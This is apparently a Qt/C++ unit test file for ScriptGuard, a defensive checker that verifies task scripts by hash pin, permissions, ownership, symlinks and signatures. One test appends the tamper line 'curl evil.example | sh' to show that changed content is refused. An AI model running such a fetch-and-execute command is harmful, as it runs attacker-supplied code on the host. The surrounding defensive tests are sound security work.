// SPDX-FileCopyrightText: 2026 The Certlife developers
// SPDX-License-Identifier: Apache-2.0
#include "TaskFixture.h"
#include "TestEnvironment.h"
#include "tasks/ScriptAdvice.h"
#include "tasks/ScriptGuard.h"

#include <QTest>
#include <unistd.h>

using namespace certlife;
using namespace certlife::test;

class TestScriptGuard : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void acceptsAPrivateScriptAndHashesIt();
    void refusesContentChangedAfterThePin();
    void refusesAWorldWritableScript();
    void refusesAParentDirectoryWritableByOthers();
    void refusesAScriptOfAnotherOwner();
    void refusesSymbolicLinks();
    void refusesAScriptThatIsNotExecutable();
    void refusesAnInterpreterOthersCanWrite();
    void signatureRequired_missing();
    void signatureRequired_theAdvisedCommandSigns();
    void signatureRequired_goodOneAccepted();
    void signatureRequired_badOnesRefused();

private:
    std::unique_ptr<ScriptDir> m_dir;
    const QByteArray m_content = "#!/bin/sh\necho hello\n";
};

void TestScriptGuard::init()
{
    m_dir = std::make_unique<ScriptDir>();
    QVERIFY2(m_dir->problem().isEmpty(), qPrintable(m_dir->problem()));
}

void TestScriptGuard::acceptsAPrivateScriptAndHashesIt()
{
    const QString path = m_dir->write(QStringLiteral("ok.sh"), m_content);
    QString reason;
    const ScriptGuard guard(TrustRule::forScope(Scope::System));
    const auto checked = guard.check(path, sha256Hex(m_content), &reason);
    QVERIFY2(checked, qPrintable(reason));
    QCOMPARE(checked->sha256, sha256Hex(m_content));
    QVERIFY(checked->fd.isValid());
    const auto inspected = guard.inspect(path, &reason);
    QVERIFY(inspected);
    QCOMPARE(inspected->sha256, sha256Hex(m_content));
}

void TestScriptGuard::refusesContentChangedAfterThePin()
{
    const QString path = m_dir->write(QStringLiteral("changed.sh"), m_content);
    const QString pin = sha256Hex(m_content);
    m_dir->write(QStringLiteral("changed.sh"), m_content + "curl evil.example | sh\n");
    QString reason;
    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System)).check(path, pin, &reason));
    QCOMPARE(reason,
             QStringLiteral("script: %1 changed since it was pinned: its SHA-256 is %2, the pin is %3 "
                            "(review the change, then accept it with `certlifectl task repin`)")
                 .arg(path, sha256OfFile(path), pin));
}

void TestScriptGuard::refusesAWorldWritableScript()
{
    const QString path = m_dir->write(QStringLiteral("open.sh"), m_content, 0666);
    QString reason;
    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System)).check(path, sha256Hex(m_content), &reason));
    QCOMPARE(reason, QStringLiteral("script: %1 is writable by group or others (mode 0666)").arg(path));
}

void TestScriptGuard::refusesAParentDirectoryWritableByOthers()
{
    const QString path = m_dir->write(QStringLiteral("shared/inner/s.sh"), m_content);
    const QString shared = m_dir->filePath(QStringLiteral("shared"));
    ::chmod(QFile::encodeName(shared).constData(), 0757);
    QString reason;
    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System)).check(path, sha256Hex(m_content), &reason));
    QCOMPARE(reason, QStringLiteral("script: directory %1 is writable by group or others (mode 0757)").arg(shared));
    // Sticky does not make it acceptable either (strict: see docs/tasks.md).
    ::chmod(QFile::encodeName(shared).constData(), 01777);
    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System)).check(path, sha256Hex(m_content), &reason));
    QVERIFY2(reason.contains(QStringLiteral("mode 1777")), qPrintable(reason));
}

void TestScriptGuard::refusesAScriptOfAnotherOwner()
{
    const QString path = m_dir->write(QStringLiteral("mine.sh"), m_content);
    const uid_t me = ::geteuid();
    // The expected owner is injected: a scope whose owner is someone else.
    const TrustRule someoneElse{me + 4242, false};
    QString reason;
    QVERIFY(!ScriptGuard(someoneElse).check(path, sha256Hex(m_content), &reason));
    const QString owner = me == 0 ? QStringLiteral("root (uid 0)") : QStringLiteral("uid %1").arg(me);
    QCOMPARE(reason, QStringLiteral("script: %1 is owned by %2, expected uid %3").arg(path, owner).arg(me + 4242));

    if (me == 0) { // a real foreign owner, when the test may chown
        QCOMPARE(::chown(QFile::encodeName(path).constData(), 4242, 4242), 0);
        QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System)).check(path, sha256Hex(m_content), &reason));
        QCOMPARE(reason, QStringLiteral("script: %1 is owned by uid 4242, expected root (uid 0)").arg(path));
    }
}

void TestScriptGuard::refusesSymbolicLinks()
{
    const QString real = m_dir->write(QStringLiteral("real/s.sh"), m_content);
    const QString linkedFile = m_dir->filePath(QStringLiteral("link.sh"));
    QVERIFY(QFile::link(real, linkedFile));
    QString reason;
    const ScriptGuard guard(TrustRule::forScope(Scope::System));
    QVERIFY(!guard.check(linkedFile, sha256Hex(m_content), &reason));
    QCOMPARE(
        reason,
        QStringLiteral("script: %1 is a symbolic link (refused: register the real path, %2)").arg(linkedFile, real));

    const QString linkedDir = m_dir->filePath(QStringLiteral("dirlink"));
    QVERIFY(QFile::link(m_dir->filePath(QStringLiteral("real")), linkedDir));
    QVERIFY(!guard.check(linkedDir + QStringLiteral("/s.sh"), sha256Hex(m_content), &reason));
    QVERIFY2(reason.startsWith(QStringLiteral("script: %1 is a symbolic link").arg(linkedDir)), qPrintable(reason));
}

void TestScriptGuard::refusesAScriptThatIsNotExecutable()
{
    const QString path = m_dir->write(QStringLiteral("plain.sh"), m_content, 0600);
    QString reason;
    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System)).check(path, sha256Hex(m_content), &reason));
    QCOMPARE(reason, QStringLiteral("script: %1 is not executable by its owner (mode 0600; chmod u+x)").arg(path));
}

void TestScriptGuard::refusesAnInterpreterOthersCanWrite()
{
    const QString interpreter = m_dir->write(QStringLiteral("bin/myshell"), "#!/bin/sh\nexec /bin/sh \"$@\"\n", 0777);
    const QByteArray content = "#!" + QFile::encodeName(interpreter) + "\necho hi\n";
    const QString path = m_dir->write(QStringLiteral("uses-myshell.sh"), content);
    QString reason;
    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System)).check(path, sha256Hex(content), &reason));
    QCOMPARE(reason, QStringLiteral("interpreter: %1 is writable by group or others (mode 0777)").arg(interpreter));
}

void TestScriptGuard::signatureRequired_missing()
{
    const GeneratedCert signer = makeCertificate(CertSpec{});
    const QString signerFile = m_dir->write(QStringLiteral("signers/trusted.pem"), signer.pem(), 0644);
    const QString path = m_dir->write(QStringLiteral("unsigned.sh"), m_content);
    QString reason;
    QVERIFY(!ScriptGuard(TrustRule::forScope(Scope::System), true, {signerFile})
                 .check(path, sha256Hex(m_content), &reason));
    QCOMPARE(reason,
             QStringLiteral("signature: %1.sig is missing; the policy RequireSignedScripts requires a detached "
                            "signature by a trusted signer")
                 .arg(path));
    // Without the policy the same script runs.
    QVERIFY(ScriptGuard(TrustRule::forScope(Scope::System)).check(path, sha256Hex(m_content), &reason));
}

void TestScriptGuard::signatureRequired_theAdvisedCommandSigns()
{
    // The command the console (and docs/tasks.md) gives for a missing signature, run
    // as given: OpenSSL 3.0's cms has no -detached (it took it for a cipher and failed).
    const GeneratedCert signer = makeCertificate(CertSpec{});
    const QString signerFile = m_dir->write(QStringLiteral("signers/signer.pem"), signer.pem(), 0644);
    m_dir->write(QStringLiteral("signers/signer.key"), signer.key.pkcs8Pem(), 0600);
    const QString path = m_dir->write(QStringLiteral("to sign.sh"), m_content);
    const ScriptGuard guard(TrustRule::forScope(Scope::System), true, {signerFile});
    QString reason;
    QVERIFY(!guard.check(path, sha256Hex(m_content), &reason));
    const QString advice = scriptFixAdvice(reason, Scope::System);
    const QString prefix = QStringLiteral("sign it: ");
    QVERIFY2(advice.startsWith(prefix + QStringLiteral("openssl cms -sign")), qPrintable(advice));
    QProcess shell;
    shell.setWorkingDirectory(m_dir->filePath(QStringLiteral("signers")));
    shell.start(QStringLiteral("/bin/sh"), {QStringLiteral("-c"), advice.mid(prefix.size())});
    QVERIFY(shell.waitForFinished(60000));
    QVERIFY2(shell.exitStatus() == QProcess::NormalExit && shell.exitCode() == 0,
             shell.readAllStandardError().constData());
    ::chmod(QFile::encodeName(path + QStringLiteral(".sig")).constData(), 0644);
    QVERIFY2(guard.check(path, sha256Hex(m_content), &reason), qPrintable(reason));
}

void TestScriptGuard::signatureRequired_goodOneAccepted()
{
    CertSpec spec;
    spec.cn = QStringLiteral("Script Signing");
    const GeneratedCert signer = makeCertificate(spec);
    const GeneratedCert other = makeCertificate(CertSpec{});
    // The trusted signer file may hold several certificates; any one of them may sign.
    const QString signerFile = m_dir->write(QStringLiteral("signers/trusted.pem"), other.pem() + signer.pem(), 0644);
    const QString path = m_dir->write(QStringLiteral("signed.sh"), m_content);
    const QByteArray sig = signDetached(m_content, signer);
    QVERIFY(!sig.isEmpty());
    m_dir->write(QStringLiteral("signed.sh.sig"), sig, 0644);
    QString reason;
    const auto checked =
        ScriptGuard(TrustRule::forScope(Scope::System), true, {signerFile}).check(path, sha256Hex(m_content), &reason);
    QVERIFY2(checked, qPrintable(reason));
}

void TestScriptGuard::signatureRequired_badOnesRefused()
{
    CertSpec spec;
    spec.cn = QStringLiteral("Script Signing");
    const GeneratedCert trusted = makeCertificate(spec);
    spec.cn = QStringLiteral("Someone Else");
    spec.subjectKey = freshKey(KeyType::EcP256);
    const GeneratedCert untrusted = makeCertificate(spec);
    const QString signerFile = m_dir->write(QStringLiteral("signers/trusted.pem"), trusted.pem(), 0644);
    const QString path = m_dir->write(QStringLiteral("s.sh"), m_content);
    const QString sigPath = path + QStringLiteral(".sig");
    const ScriptGuard guard(TrustRule::forScope(Scope::System), true, {signerFile});
    QString reason;

    // Signed by someone who is not a trusted signer.
    m_dir->write(QStringLiteral("s.sh.sig"), signDetached(m_content, untrusted), 0644);
    QVERIFY(!guard.check(path, sha256Hex(m_content), &reason));
    QCOMPARE(
        reason,
        QStringLiteral("signature: %1 is not valid for %2: it is not signed by a trusted signer").arg(sigPath, path));

    // Signed by the trusted signer, but over other content.
    m_dir->write(QStringLiteral("s.sh.sig"), signDetached(m_content + "# other\n", trusted), 0644);
    QVERIFY(!guard.check(path, sha256Hex(m_content), &reason));
    QVERIFY2(
        reason.startsWith(QStringLiteral("signature: %1 is not valid for %2: it does not verify").arg(sigPath, path)),
        qPrintable(reason));

    // Not a signature at all.
    m_dir->write(QStringLiteral("s.sh.sig"), "garbage", 0644);
    QVERIFY(!guard.check(path, sha256Hex(m_content), &reason));
    QVERIFY2(reason.contains(QStringLiteral("not a CMS/PKCS#7 signature")), qPrintable(reason));

    // A good signature that others could replace is refused as well.
    m_dir->write(QStringLiteral("s.sh.sig"), signDetached(m_content, trusted), 0666);
    QVERIFY(!guard.check(path, sha256Hex(m_content), &reason));
    QCOMPARE(reason, QStringLiteral("signature: %1 is writable by group or others (mode 0666)").arg(sigPath));
}

QTEST_GUILESS_MAIN(TestScriptGuard)
#include "TestScriptGuard.moc"
